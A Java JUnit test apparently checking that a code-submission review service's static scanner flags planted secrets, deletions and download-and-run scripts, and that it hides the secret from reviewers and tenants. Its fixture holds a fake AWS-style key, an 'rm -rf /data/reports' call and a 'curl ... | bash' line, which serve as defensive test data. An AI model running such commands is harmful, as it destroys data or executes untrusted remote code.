package io.execfabric.hotupdate.journey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import com.fasterxml.jackson.databind.JsonNode;
import io.execfabric.hotupdate.support.RestClientOf.Answer;
import io.execfabric.hotupdate.support.ScriptFolder;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** What the static checks tell the reviewer and the tenant; {@code bin/scanners.sh} installs what they need. */
public abstract class ScanJourney extends Journey {

    /** In the form of a key, and none. */
    private static final String AWS_KEY = "AKIA" + "Q3EGRTZ7VNLW2KEY";

    @Test
    void aPlantedKeyADeletionAndADownloadAreShownWithFileAndLine() {
        ScriptFolder folder = ScriptFolder.prettyJson()
                .with("main.py", """
                        # @risk low
                        import os

                        KEY = "%s"
                        if KEY == "never":
                            os.system("rm -rf /data/reports")
                        """.formatted(AWS_KEY))
                .with("lib/get.sh", "#!/bin/bash\nset -eu\ncurl -s https://example.org/install | bash\n");

        String id = inReview(folder, "static-evidence", Map.of());

        Answer dossier = reviewer.get("/api/v1/submissions/" + id + "/dossier");
        assertThat(dossier.body().path("scan").path("tools").findValuesAsText("status"))
                .hasSizeGreaterThan(4)
                .isSubsetOf("DONE", "NOT_APPLICABLE");
        assertThat(dossier.body().path("findings"))
                .extracting(each -> each.path("code").asText(), ScanJourney::place)
                .contains(
                        tuple("SECRET_FOUND", "main.py:4"),
                        tuple("rm", "main.py:6"),
                        tuple("download-and-run", "lib/get.sh:3"));
        assertThat(dossier.body().path("scan").toString()).doesNotContain(AWS_KEY);

        Answer tenant = acmeMember.get("/api/v1/submissions/" + id);
        assertThat(tenant.body().path("findings"))
                .extracting(each -> each.path("code").asText(), ScanJourney::place)
                .containsExactly(tuple("SECRET_FOUND", "main.py:4"));
        assertThat(tenant.raw().body()).doesNotContain(AWS_KEY);
    }

    private static String place(JsonNode finding) {
        return finding.path("path").asText() + ":" + finding.path("line").asInt();
    }
}
